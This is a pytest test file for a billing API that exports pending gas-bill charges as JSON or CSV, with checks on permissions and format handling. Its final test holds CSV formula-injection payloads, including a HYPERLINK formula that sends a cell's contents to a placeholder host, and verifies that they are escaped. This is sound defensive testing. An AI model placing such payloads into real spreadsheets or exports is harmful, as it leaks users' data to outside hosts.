"""The billing system: pending charges to next bills, and their export (once each)."""

from __future__ import annotations

import csv
import io

import pytest

from apps.meter_service.doctype.payment.models import BillCharge
from apps.meter_service.permissions import Role

pytestmark = pytest.mark.django_db


@pytest.fixture
def charges(make_claim, install, tariffs):
    """Two claims whose fee goes on the next gas bill (oldest first)."""
    first = make_claim(payment_method="next_bill")
    second = make_claim(install(), payment_method="next_bill")
    return [first, second]


@pytest.fixture
def billing(api, make_user):
    return api(make_user(Role.BILLING_OFFICER), token=True)


def test_pending_charges_oldest_first(billing, charges):
    data = billing.get("/api/v1/billing/charges/").json()
    assert [row["tracking_code"] for row in data["results"]] == [c.tracking_code for c in charges]
    row = data["results"][0]
    assert row["bill_id"] == charges[0].subscriber.bill_id
    assert row["amount_rial"] == charges[0].total_fee


def test_export_as_json_marks_the_charges_exported_once(billing, charges):
    response = billing.post("/api/v1/billing/charges/export/")
    assert response.status_code == 200
    data = response.json()
    assert data["batch_id"] and response["X-Export-Batch"] == data["batch_id"]
    assert [row["tracking_code"] for row in data["charges"]] == [c.tracking_code for c in charges]
    assert isinstance(data["charges"][0]["amount_rial"], int)
    assert not BillCharge.objects.filter(exported_at__isnull=True).exists()
    assert billing.get("/api/v1/billing/charges/").json()["count"] == 0
    again = billing.post("/api/v1/billing/charges/export/").json()
    assert again == {"batch_id": "", "charges": []}


@pytest.mark.parametrize("how", [{"HTTP_ACCEPT": "text/csv"}, {"QUERY_STRING": "format=csv"}])
def test_export_as_csv(billing, charges, how):
    response = billing.generic("POST", "/api/v1/billing/charges/export/", **how)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["tracking_code"] for row in rows] == [c.tracking_code for c in charges]


def test_reader_roles_cannot_export(api, make_user, charges):
    clerk = api(make_user(Role.SERVICE_DESK_CLERK))
    assert clerk.get("/api/v1/billing/charges/").status_code == 200
    assert clerk.post("/api/v1/billing/charges/export/").status_code == 403
    assert BillCharge.objects.filter(exported_at__isnull=True).count() == 2


@pytest.mark.parametrize(
    "path", ["/api/v1/billing/charges/export/", "/api/v1/billing/adjustments/export/"]
)
def test_options_with_the_csv_format_describes_the_endpoint_in_json(make_user, path):
    """OPTIONS ...?format=csv answered 500: the CSV renderer was handed a dict."""
    from rest_framework.test import APIClient

    client = APIClient()  # OPTIONS is not an operation of the schema
    client.force_authenticate(make_user(Role.BILLING_OFFICER))
    response = client.options(path, QUERY_STRING="format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["name"]


@pytest.mark.parametrize("format_", ["xml", ""])
@pytest.mark.parametrize(
    "path", ["/api/v1/billing/charges/export/", "/api/v1/billing/adjustments/export/"]
)
def test_an_unknown_format_is_not_acceptable_and_exports_nothing(billing, charges, path, format_):
    """?format=xml answered 404, which the schema did not document and which reads as a
    missing record; an empty ?format= exported as JSON (schemathesis found both)."""
    response = billing.generic("POST", path, QUERY_STRING=f"format={format_}")
    assert response.status_code == 406
    assert response.json()["extra"]["code"] == "not_acceptable"
    assert BillCharge.objects.filter(exported_at__isnull=True).count() == 2


def test_text_that_would_be_a_formula_is_exported_as_text(billing, charges):
    """A spreadsheet program runs a cell starting with = + - @ as a formula."""
    from apps.meter_service.core import exports

    attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1"]
    assert [exports.spreadsheet_text(a) for a in attacks] == ["'" + a for a in attacks]
    assert [exports.spreadsheet_text(v) for v in ("-250", "+98", 7, "نام")] == [
        "-250",
        "+98",
        7,
        "نام",
    ]
    text = exports.csv_text(["name", "amount"], [{"name": attacks[0], "amount": -250}])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == [{"name": "'" + attacks[0], "amount": "-250"}]
